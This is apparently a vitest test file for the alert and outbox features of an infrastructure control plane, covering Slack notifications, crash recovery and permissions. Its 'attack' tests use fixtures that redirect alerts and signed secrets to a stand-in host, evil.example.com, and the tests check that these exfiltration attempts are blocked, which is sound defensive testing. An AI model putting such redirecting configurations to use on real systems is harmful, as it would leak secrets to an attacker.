import type { AlertRecord } from '@trueup/engine';
import { describe, expect, it } from 'vitest';

import type { AlertView } from '../session/session.ts';
import { ControlPlaneBench, configuration, thing, thingId } from '../testing/index.ts';
import { MergeRequestBench } from '../testing/merge-request-bench.ts';

const opsHook = 'https://hooks.slack.com/services/T0/B0/ops';
const web = thingId('web');

function asking(...alerts: readonly string[]): string {
  return configuration(
    'stacks:',
    '  - { name: shop, path: shop, target: cloud }',
    '  - { name: blog, path: blog, target: cloud }',
    'alerts:',
    ...alerts.map((alert) => `  - ${alert}`),
  );
}

const ops = '{ to: { slack: { secret: ops } }, on: ["run:*", "drift:*"] }';
const files = {
  'trueup.yaml': asking(ops),
  'shop/web.json': thing('web'),
  'blog/page.json': thing('page'),
};

async function openBench(first: Readonly<Record<string, string>> = files) {
  const bench = await ControlPlaneBench.open();
  await bench.admin.putSecret('ops', opsHook, [{ kind: 'alert', name: 'infra' }]);
  const revision = await bench.push(first);
  await bench.untilRun('shop', 'succeeded', revision);
  await bench.untilRun('blog', 'succeeded', revision);
  return bench;
}

async function outboxOf(bench: ControlPlaneBench): Promise<readonly AlertView[]> {
  return (await bench.admin.alerts({}, { limit: 100 })).items;
}

function untilTold(bench: ControlPlaneBench, title: string, url = opsHook): Promise<unknown> {
  return bench.until(`to be told: ${title}`, async () =>
    bench.outside.titles(url).some((one) => one === title),
  );
}

function untilState(bench: ControlPlaneBench, title: string, state: AlertRecord['state']) {
  return bench.until(`${title} to be ${state}`, async () => {
    const outbox = await outboxOf(bench);
    return outbox.find((one) => one.title === title && one.state === state);
  });
}

describe('alerts', () => {
  it('tell of runs and drift where the followed head asks for it', async () => {
    await using bench = await openBench();
    await untilTold(bench, 'infra/shop: run succeeded');
    await untilTold(bench, 'infra/blog: run succeeded');

    bench.cloud.disturb(web, 'size', 9, 'mallory');
    await untilTold(bench, 'infra/shop: drift');
    bench.cloud.disturb(web, 'size', 1, 'mallory');
    await untilTold(bench, 'infra/shop: drift is gone');

    const sent = await untilState(bench, 'infra/shop: drift', 'sent');
    expect(sent).toMatchObject({ name: 'slack-ops', destination: 'slack ops', attempts: 1 });
    const { body } = bench.outside.posted[0] ?? {};
    expect(body).toContain('https://trueup.example.com/repositories/infra/runs/');
    await bench.until('all to be sent', async () => {
      const { waiting, sent: all, failed } = (await bench.plane.figures()).alerts;
      return waiting === 0 && failed === 0 && all === 4;
    });
    expect(bench.errors).toEqual([]);
  });

  it('tell of those stacks only that they name, and of failures with their reason', async () => {
    const some = '{ to: { slack: { secret: ops } }, on: [run:failed], stacks: ["*", "!blog"] }';
    await using bench = await openBench({ ...files, 'trueup.yaml': asking(some) });
    bench.cloud.inject(web, 'stalled');
    bench.cloud.inject(thingId('page'), 'stalled');

    await bench.push({
      'shop/web.json': thing('web', { spec: { size: 2 } }),
      'blog/page.json': thing('page', { spec: { size: 2 } }),
    });
    await bench.untilRun('shop', 'failed');
    await bench.untilRun('blog', 'failed');
    const sent = await untilState(bench, 'infra/shop: run failed', 'sent');

    expect(sent.items[0]).toMatch(/^revision [0-9a-f]{12}, run \w{12}, .+/);
    expect((await outboxOf(bench)).map(({ title }) => title)).toEqual(['infra/shop: run failed']);
  });

  it('tell of a rollout where one of its stacks is asked for', async () => {
    const blogOnly = '{ to: { slack: { secret: ops } }, on: ["rollout:*"], stacks: [blog] }';
    await using bench = await openBench({ ...files, 'trueup.yaml': asking(blogOnly) });
    await untilTold(bench, 'infra: rollout succeeded');
    const before = bench.outside.posted.length;
    const larger = thing('web', { spec: { size: 2 } });
    await bench.untilRun('shop', 'succeeded', await bench.push({ 'shop/web.json': larger }));

    const page = thing('page', { spec: { size: 2 } });
    await bench.push({ 'blog/page.json': page });
    await bench.until('the second rollout to be told', async () => {
      return bench.outside.posted.length > before;
    });

    expect(bench.outside.posted).toHaveLength(before + 1);
    expect((await outboxOf(bench))[0]?.items).toEqual([expect.stringMatching(/^revision \w{12}$/)]);
  });

  it('write nothing and ask nobody where nobody asks for them', async () => {
    const quiet = configuration('stacks:', '  - { name: shop, path: shop, target: cloud }');
    await using bench = await ControlPlaneBench.open();
    const revision = await bench.push({ 'trueup.yaml': quiet, 'shop/web.json': thing('web') });
    await bench.untilRun('shop', 'succeeded', revision);

    expect(await bench.memory.setting('alerts-place')).toBeUndefined();
    expect(bench.outside.posted).toEqual([]);
  });

  it('say nothing of what was before somebody asked', async () => {
    await using bench = await openBench({
      ...files,
      'trueup.yaml': asking(ops.replace('run', 'health')),
    });

    await bench.push({
      'trueup.yaml': asking(ops),
      'blog/page.json': thing('page', { spec: { size: 2 } }),
    });
    await untilTold(bench, 'infra/blog: run succeeded');

    const told = bench.outside.titles(opsHook);
    expect(told).toEqual(['infra/blog: run succeeded']);
  });

  it('stay in force while trueup.yaml cannot be read', async () => {
    const on = '["repository:*", "stack:*"]';
    const told = asking(`{ to: { slack: { secret: ops } }, on: ${on} }`);
    await using bench = await openBench({ ...files, 'trueup.yaml': told });

    await bench.push({ 'trueup.yaml': 'apiVersion: [' });
    await untilTold(bench, 'infra: trueup.yaml has mistakes');
    await bench.restart();
    await bench.admin.pause('infra/shop', 'until it is mended');
    await untilTold(bench, 'infra/shop: paused');

    expect((await bench.plane.figures()).alerts.failed).toBe(0);
  });

  it('tell of merge requests and their plans', async () => {
    await using bench = await MergeRequestBench.open();
    const { plane } = bench;
    await plane.admin.putSecret('ops', opsHook, [{ kind: 'alert', name: 'infra' }]);
    const on = '{ to: { slack: { secret: ops } }, on: ["merge-request:*", "plan:*"] }';
    await bench.push({ 'trueup.yaml': asking(on) });

    await bench.propose({ 'shop/web.json': '{ "kind": "Thing" ' });

    await untilTold(plane, 'infra!1: merge request planned');
    await untilTold(plane, 'infra!1 infra/shop: plan failed');
    expect(plane.errors).toEqual([]);
  });
});

describe('attack: an alert', () => {
  it('that an unmerged trueup.yaml points elsewhere is never contacted', async () => {
    const evil = 'https://evil.example.com/steal';
    await using bench = await MergeRequestBench.open();
    const { plane } = bench;
    await plane.admin.putSecret('ops', opsHook, [{ kind: 'alert', name: 'infra' }]);
    const on = '["merge-request:*", "plan:*", "run:*", "drift:*"]';
    await bench.push({ 'trueup.yaml': asking(`{ to: { slack: { secret: ops } }, on: ${on} }`) });
    const stolen = `{ to: { webhook: { url: "${evil}", signature: { secret: ops } } }, on: ${on} }`;

    const request = await bench.propose({
      'trueup.yaml': asking(stolen, `{ to: { ntfy: { url: "${evil}" } }, on: ${on} }`),
      'shop/web.json': thing('web', { spec: { size: 2 } }),
    });
    await untilTold(plane, 'infra!1: merge request planned');
    plane.cloud.disturb(web, 'size', 9, 'mallory');
    await untilTold(plane, 'infra/shop: drift');
    await plane.restart();
    await bench.pushTo(request, { 'shop/web.json': thing('web', { spec: { size: 3 } }) });
    await plane.until('the second plan to be told', async () => {
      const told = plane.outside.titles(opsHook);
      return told.filter((title) => title === 'infra!1: merge request planned').length >= 2;
    });

    const hosts = plane.outside.posted.map(({ url }) => new URL(url).host);
    expect(new Set(hosts)).toEqual(new Set(['hooks.slack.com']));
    const tried = plane.admin.testAlert('infra', { name: 'ntfy-evil.example.com' }, never);
    await expect(tried).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });

  it('that a merged trueup.yaml gives a secret which is not for alerts gets nothing', async () => {
    const theft = '{ to: { slack: { secret: deploy-key } }, on: ["run:*"] }';
    await using bench = await openBench();
    await bench.admin.putSecret('deploy-key', 'https://evil.example.com/key', [
      { kind: 'repository', name: 'infra' },
      { kind: 'alert', name: 'other' },
    ]);

    await bench.push({
      'trueup.yaml': asking(theft),
      'shop/web.json': thing('web', { spec: { size: 2 } }),
    });
    const failed = await bench.until('it to be given up', async () =>
      (await outboxOf(bench)).find(({ name }) => name === 'slack-deploy-key'),
    );
    const given = await untilState(bench, failed.title, 'failed');

    expect(given.failure).toMatchObject({ code: 'SECRET_NOT_ALLOWED' });
    expect(bench.outside.posted.filter(({ url }) => url.includes('evil'))).toEqual([]);
  });

  it('which waits is not sent to where trueup.yaml does not point any more', async () => {
    await using bench = await openBench();
    bench.outside.answer = () => ({ status: 503 });
    await bench.push({ 'shop/web.json': thing('web', { spec: { size: 2 } }) });
    const waiting = await bench.until('one to wait', async () =>
      (await outboxOf(bench)).find(({ state, attempts }) => state === 'pending' && attempts > 0),
    );

    bench.outside.answer = () => ({ status: 200 });
    const before = bench.outside.posted.length;
    const head = await bench.push({ 'trueup.yaml': asking().replace('alerts:\n', '') });
    await bench.until('it to be taken up', async () => {
      const [repository] = await bench.memory.repositories();
      return repository?.head === head;
    });
    await bench.admin.retryAlert(waiting.id);
    const given = await untilState(bench, waiting.title, 'failed');

    expect(given.failure).toMatchObject({ code: 'ALERT_WITHDRAWN' });
    expect(bench.outside.posted.slice(before)).toEqual([]);
  });
});

describe('the outbox', () => {
  it.each([1, 2, 3, 4, 5, 6, 7, 8])(
    'loses nothing when the process is killed after %d batches',
    async (batches) => {
      await using bench = await openBench({ ...files, 'trueup.yaml': asking(ops) });
      await untilTold(bench, 'infra/shop: run succeeded');
      await untilTold(bench, 'infra/blog: run succeeded');
      bench.outside.posted.length = 0;

      bench.crashAfter(batches);
      bench.cloud.disturb(web, 'size', 9, 'mallory');
      await bench.until('the end of the process, or the message', async () => {
        return bench.ended || bench.outside.titles(opsHook).length > 0;
      });
      await bench.crash();
      await bench.start();
      const sent = await untilState(bench, 'infra/shop: drift', 'sent');

      const drift = (await outboxOf(bench)).filter(({ title }) => title === sent.title);
      expect(drift).toHaveLength(1);
      // At most one more, where the process ended right after it was sent.
      const copies = bench.outside.titles(opsHook).filter((title) => title === sent.title);
      expect([1, 2]).toContain(copies.length);
    },
  );

  it('reads no event twice, also of those that a start writes', async () => {
    await using bench = await openBench();
    await untilTold(bench, 'infra/shop: run succeeded');
    await untilTold(bench, 'infra/blog: run succeeded');
    const revision = await bench.push({ 'shop/web.json': thing('web', { spec: { size: 2 } }) });
    await bench.until('a run of it', async () => (await bench.runsOf('shop')).length > 1);

    await bench.crash();
    await bench.start();
    await bench.untilRun('shop', 'succeeded', revision);
    const succeeded = await bench.until('all to be told', async () => {
      const { items } = await bench.memory.events({ limit: 1000 });
      const { waiting } = (await bench.plane.figures()).alerts;
      const wanted = items.filter(({ type }) => type === 'run:succeeded');
      return waiting === 0 && (await outboxOf(bench)).length >= wanted.length && wanted;
    });

    const outbox = await outboxOf(bench);
    const told = outbox.reduce((sum, { count, repeats }) => sum + count + repeats, 0);
    expect(told).toBe(succeeded.length);
  });

  it('is seen by those who may view the repository, and moved by operators', async () => {
    await using bench = await openBench();
    bench.outside.answer = () => ({ status: 404 });
    bench.cloud.disturb(web, 'size', 9, 'mallory');
    const failed = await untilState(bench, 'infra/shop: drift', 'failed');
    expect(failed.failure?.message).toBe('hooks.slack.com: not taken: it answered 404');

    const stranger = bench.as('viewer', 'eve', 'other');
    const viewer = bench.as('viewer', 'vic', 'infra');
    const operator = bench.as('operator', 'olga', 'infra');
    const page = { limit: 10 };
    expect((await stranger.alerts({}, page)).items).toEqual([]);
    await expect(stranger.alerts({ repository: 'infra' }, page)).rejects.toMatchObject(notFound);
    await expect(stranger.retryAlert(failed.id)).rejects.toMatchObject(notFound);
    const seen = (await viewer.alerts({ state: 'failed' }, page)).items;
    expect(seen.map(({ id }) => id)).toContain(failed.id);
    await expect(viewer.retryAlert(failed.id)).rejects.toMatchObject({ code: 'ACCESS_DENIED' });

    bench.outside.answer = () => ({ status: 200 });
    await operator.retryAlert(failed.id);
    await untilState(bench, 'infra/shop: drift', 'sent');
    const { items } = await bench.admin.audit({ limit: 1000 });
    expect(items.at(-1)).toMatchObject({ actor: 'member:olga', event: 'alert:retried' });
  });
});

describe('a test by hand', () => {
  it('is sent at once, and tells the answer', async () => {
    await using bench = await openBench();
    const operator = bench.as('operator', 'olga', 'infra');

    const taken = await operator.testAlert('infra', { name: 'slack-ops' }, never);
    bench.outside.answer = () => ({ status: 403 });
    const refused = await operator.testAlert('infra', { name: 'slack-ops' }, never);

    expect(taken).toEqual({ destination: 'slack ops', taken: true, answer: 'answered 200' });
    expect(refused).toMatchObject({ taken: false, code: 'ALERT_REFUSED' });
    expect(bench.outside.titles(opsHook)).toContain('infra: this is a test');
  });

  it('of what is not written yet is for administrators', async () => {
    await using bench = await openBench();
    const to = { slack: { secret: 'ops' } };
    const admin = bench.as('admin', 'ann', 'infra');

    await expect(admin.testAlert('infra', { to }, never)).rejects.toMatchObject({
      code: 'ACCESS_DENIED',
    });
    expect(await bench.admin.testAlert('infra', { to }, never)).toMatchObject({ taken: true });
    const wrong = bench.admin.testAlert('infra', { to: { slak: {} } }, never);
    await expect(wrong).rejects.toMatchObject({ code: 'INVALID_REQUEST' });
  });
});

const notFound = { code: 'NOT_FOUND' };
const never = new AbortController().signal;
